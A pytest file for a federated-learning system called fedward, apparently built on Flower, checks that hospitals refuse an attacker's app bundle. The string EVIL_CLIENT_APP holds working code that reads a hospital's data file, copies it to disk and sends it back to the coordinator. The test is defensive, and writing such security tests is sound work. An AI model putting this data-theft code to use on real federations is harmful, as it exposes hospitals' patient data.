"""A dishonest coordinator submits its own code: it never runs on a hospital's data.

Written as the attacker acts. The coordinator (anyone who reaches the SuperLink's Control API)
submits, with `flwr run`, an app bundle that carries its own `client/app.py` and names it as the
ClientApp (in plain Flower the bundle's folder comes first on `sys.path`, so this code would
replace fedward's policy, ledger, DP and secure aggregation). That ClientApp reads the hospital's
data file and writes it to a sentinel file, both when imported and when it handles a message,
and sends the data back. The bundle's own ServerApp sends one train message to every hospital
and writes down what came back.

What must hold: no sentinel file, nothing of the data in any reply, each hospital's reply is an
error with a reason code only, and the refusal is in each hospital's audit log.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from fedward.server.deploy import Connection, flwr_cli, run_status

HOSPITALS = ("north", "south")  # the federation fixture's hospitals (tests/deploy/conftest.py)
pytestmark = pytest.mark.slow

ATTACK_TIMEOUT = 300.0

EVIL_CLIENT_APP = '''
"""The coordinator's ClientApp: copy the hospital's data out."""
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

SENTINEL = Path({sentinel!r})
SENTINEL.mkdir(parents=True, exist_ok=True)
(SENTINEL / "imported").write_text("the bundle's code was imported")

app = ClientApp()


@app.train()
def train(msg, context):
    data = Path(str(context.node_config["data-path"])).read_text()
    (SENTINEL / "stolen.csv").write_text(data)
    return Message(RecordDict({{"stolen": ConfigRecord({{"data": data}})}}), reply_to=msg)
'''

EVIL_SERVER_APP = '''
"""The coordinator's ServerApp: ask every hospital once, record the answers."""
import json
import time
from pathlib import Path

from flwr.app import Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()


@app.main()
def main(grid: Grid, context) -> None:
    deadline = time.monotonic() + 60
    nodes = list(grid.get_node_ids())
    while len(nodes) < {hospitals} and time.monotonic() < deadline:
        time.sleep(1)
        nodes = list(grid.get_node_ids())
    messages = [Message(RecordDict(), dst_node_id=node, message_type="train") for node in nodes]
    answers = []
    for reply in grid.send_and_receive(messages, timeout=180):
        entry = {{"node": reply.metadata.src_node_id, "error": None, "content": None}}
        if reply.has_error():
            entry["error"] = {{"code": reply.error.code, "reason": reply.error.reason}}
        else:
            entry["content"] = repr(dict(reply.content))
        answers.append(entry)
    Path({answers!r}).write_text(json.dumps(answers))
'''

EVIL_PYPROJECT = """
[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "fedward-deployment"
version = "9.9.9"
dependencies = []

[tool.flwr.app]
publisher = "fedward"

[tool.flwr.app.components]
serverapp = "evil.server_app:app"
clientapp = "client.app:app"

[tool.flwr.app.config]
rounds = 1
"""


def write_evil_app(folder: Path, sentinel: Path, answers: Path) -> Path:
    """The attacker's app folder: fedward's name and publisher, its own code."""
    app = folder / "fedward-deployment"
    for package in ("client", "evil"):
        (app / package).mkdir(parents=True)
        (app / package / "__init__.py").write_text("", encoding="utf-8")
    (app / "client" / "app.py").write_text(
        EVIL_CLIENT_APP.format(sentinel=str(sentinel)), encoding="utf-8"
    )
    (app / "evil" / "server_app.py").write_text(
        EVIL_SERVER_APP.format(hospitals=len(HOSPITALS), answers=str(answers)), encoding="utf-8"
    )
    (app / "pyproject.toml").write_text(EVIL_PYPROJECT, encoding="utf-8")
    return app


def test_a_bundle_with_its_own_client_app_never_runs_at_a_hospital(federation, tmp_path):
    sentinel = tmp_path / "sentinel"
    answers_file = tmp_path / "answers.json"
    app = write_evil_app(tmp_path / "attacker", sentinel, answers_file)
    connection = Connection(
        address=federation.address, root_certificates=federation.certs / "ca.crt"
    )

    flower_run_id = int(flwr_cli(connection, ["run", str(app)])["run-id"])
    deadline = time.monotonic() + ATTACK_TIMEOUT
    while not str(run_status(connection, flower_run_id).get("status", "")).startswith("finished"):
        assert time.monotonic() < deadline, "the attacker's run did not finish"
        time.sleep(2)

    # the coordinator heard back from every hospital: a refusal with a reason code, no data
    assert answers_file.is_file(), "the attacker's ServerApp wrote no answers"
    answers = json.loads(answers_file.read_text(encoding="utf-8"))
    assert sorted(answer["node"] for answer in answers) == sorted(
        federation.node_ids[name] for name in HOSPITALS
    )
    for answer in answers:
        assert answer["content"] is None
        assert answer["error"]["reason"] == "fedward:bundle.carries-files"
    notes = {name: (federation.site(name) / "notes.csv").read_text() for name in HOSPITALS}
    for text in notes.values():
        assert text.splitlines()[1] not in answers_file.read_text(encoding="utf-8")

    # the bundle's code never ran: not imported, nothing written
    assert not sentinel.exists()

    # each hospital's own audit log says what was refused and why
    for name in HOSPITALS:
        refused = [
            r["fields"] for r in federation.hospital_audit(name) if r["kind"] == "bundle.refused"
        ]
        assert refused, f"no refusal in {name}'s audit log"
        assert refused[-1]["flower_run_id"] == flower_run_id
        assert refused[-1]["reason"] == "bundle.carries-files"
        assert "client/app.py" in refused[-1]["detail"]
